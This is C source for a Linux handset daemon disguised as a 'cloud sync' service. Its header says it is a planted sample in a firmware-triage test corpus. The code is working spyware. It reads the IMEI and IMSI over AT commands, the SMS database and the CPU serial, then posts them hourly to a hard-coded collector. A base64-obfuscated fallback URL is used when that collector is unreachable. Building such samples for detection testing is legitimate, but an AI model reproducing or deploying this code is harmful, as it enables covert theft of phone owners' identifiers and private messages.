/*
 * syncd - "cloud sync" daemon of a low-cost Linux handset.
 *
 * Planted sample (fwtriage test corpus): behind the innocent name it reads
 * the modem identifiers (IMEI, IMSI), the SMS store and the SoC serial, and
 * posts them as JSON to a hard-coded collector every hour.  A base64-encoded
 * fallback URL is decoded at run time when the primary address fails.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

#define MODEM_TTY "/dev/ttyUSB2"
#define SMS_DB "/data/data/com.android.providers.telephony/databases/mmssms.db"
#define COLLECTOR_IP "203.0.113.7"
#define COLLECTOR_PORT 8080
#define COLLECTOR_HOST "collect.hgtx-data.cn"
#define UPLOAD_PATH "/api/v1/upload"
#define FALLBACK_B64 "aHR0cDovL2JhY2t1cC5oZ3R4LWRhdGEuY24vdQ=="
#define INTERVAL 3600
#define BODY_MAX 16384

static int modem_open(void)
{
    struct termios tio;
    int fd = open(MODEM_TTY, O_RDWR | O_NOCTTY);

    if (fd < 0)
        return -1;
    if (tcgetattr(fd, &tio) == 0) {
        cfmakeraw(&tio);
        cfsetspeed(&tio, B115200);
        tio.c_cc[VMIN] = 0;
        tio.c_cc[VTIME] = 20;
        tcsetattr(fd, TCSANOW, &tio);
    }
    return fd;
}

/* Send one AT command and collect the answer up to OK/ERROR. */
static int modem_query(int fd, const char *command, char *answer, size_t size)
{
    size_t used = 0;
    ssize_t n;

    if (write(fd, command, strlen(command)) < 0 || write(fd, "\r", 1) < 0)
        return -1;
    while (used + 1 < size && (n = read(fd, answer + used, size - used - 1)) > 0) {
        used += (size_t)n;
        answer[used] = '\0';
        if (strstr(answer, "\r\nOK\r\n") || strstr(answer, "ERROR"))
            break;
    }
    answer[used] = '\0';
    return used ? 0 : -1;
}

/* First line of digits in a modem answer (the IMEI or the IMSI). */
static void first_number(const char *answer, char *out, size_t size)
{
    size_t n = 0;

    while (*answer && (*answer < '0' || *answer > '9'))
        answer++;
    while (*answer >= '0' && *answer <= '9' && n + 1 < size)
        out[n++] = *answer++;
    out[n] = '\0';
}

static void cpu_serial(char *out, size_t size)
{
    char line[256];
    FILE *f = fopen("/proc/cpuinfo", "r");

    snprintf(out, size, "unknown");
    if (!f)
        return;
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "Serial", 6) == 0 && strchr(line, ':')) {
            snprintf(out, size, "%s", strchr(line, ':') + 2);
            out[strcspn(out, "\r\n")] = '\0';
        }
    fclose(f);
}

/* The SMS store: the telephony provider's database when present, else the modem's memory. */
static size_t read_sms(int modem, char *out, size_t size)
{
    FILE *db = fopen(SMS_DB, "rb");
    size_t n = 0;
    int c;

    if (db) {
        while ((c = fgetc(db)) != EOF && n + 1 < size)
            if (c >= 0x20 && c < 0x7f && c != '"' && c != '\\')
                out[n++] = (char)c;
        fclose(db);
        out[n] = '\0';
        return n;
    }
    if (modem >= 0 && modem_query(modem, "AT+CMGF=1", out, size) == 0
        && modem_query(modem, "AT+CMGL=\"ALL\"", out, size) == 0) {
        for (n = 0; out[n]; n++)
            if (out[n] == '"' || out[n] == '\\' || out[n] < 0x20)
                out[n] = ' ';
        return n;
    }
    out[0] = '\0';
    return 0;
}

static int b64_value(char c)
{
    static const char alphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const char *p = strchr(alphabet, c);

    return (c && p) ? (int)(p - alphabet) : -1;
}

static void b64_decode(const char *in, char *out, size_t size)
{
    unsigned int bits = 0;
    int count = 0, v;
    size_t n = 0;

    for (; *in && (v = b64_value(*in)) >= 0 && n + 1 < size; in++) {
        bits = (bits << 6) | (unsigned int)v;
        count += 6;
        if (count >= 8) {
            count -= 8;
            out[n++] = (char)((bits >> count) & 0xff);
        }
    }
    out[n] = '\0';
}

static int connect_to(const char *host, int port)
{
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *res;
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    if (fd < 0)
        return -1;
    if (inet_pton(AF_INET, host, &addr.sin_addr) != 1) {
        if (getaddrinfo(host, NULL, &hints, &res) != 0) {
            close(fd);
            return -1;
        }
        addr.sin_addr = ((struct sockaddr_in *)res->ai_addr)->sin_addr;
        freeaddrinfo(res);
    }
    if (connect(fd, (struct sockaddr *)&addr, sizeof addr) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static int http_post(int fd, const char *host, const char *path, const char *body)
{
    char head[512];
    int n = snprintf(head, sizeof head,
                     "POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: syncd/2.1\r\n"
                     "Content-Type: application/json\r\nContent-Length: %zu\r\n"
                     "Connection: close\r\n\r\n", path, host, strlen(body));

    if (send(fd, head, (size_t)n, 0) < 0 || send(fd, body, strlen(body), 0) < 0)
        return -1;
    return recv(fd, head, sizeof head, 0) > 0 ? 0 : -1;
}

static void upload(const char *body)
{
    char url[128], *host, *path;
    int fd = connect_to(COLLECTOR_IP, COLLECTOR_PORT);

    if (fd >= 0) {
        http_post(fd, COLLECTOR_HOST, UPLOAD_PATH, body);
        close(fd);
        return;
    }
    b64_decode(FALLBACK_B64, url, sizeof url);          /* http://host/path */
    host = strstr(url, "//");
    if (!host)
        return;
    host += 2;
    path = strchr(host, '/');
    if (path)
        *path = '\0';
    fd = connect_to(host, 80);
    if (fd >= 0) {
        if (path)
            *path = '/';
        http_post(fd, host, path ? path : "/", body);
        close(fd);
    }
}

static void collect_and_send(void)
{
    static char sms[BODY_MAX / 2], body[BODY_MAX];
    char answer[256], imei[32] = "", imsi[32] = "", serial[64];
    int modem = modem_open();

    if (modem >= 0) {
        if (modem_query(modem, "AT+CGSN", answer, sizeof answer) == 0)
            first_number(answer, imei, sizeof imei);
        if (modem_query(modem, "AT+CIMI", answer, sizeof answer) == 0)
            first_number(answer, imsi, sizeof imsi);
    }
    read_sms(modem, sms, sizeof sms);
    if (modem >= 0)
        close(modem);
    cpu_serial(serial, sizeof serial);
    snprintf(body, sizeof body,
             "{\"imei\":\"%s\",\"imsi\":\"%s\",\"serial\":\"%s\",\"sms\":\"%s\"}",
             imei, imsi, serial, sms);
    upload(body);
}

int main(int argc, char **argv)
{
    int foreground = argc > 1 && strcmp(argv[1], "-f") == 0;

    signal(SIGPIPE, SIG_IGN);
    if (!foreground && daemon(0, 0) < 0) {
        perror("daemon");
        return 1;
    }
    for (;;) {
        collect_and_send();
        sleep(INTERVAL);
    }
}
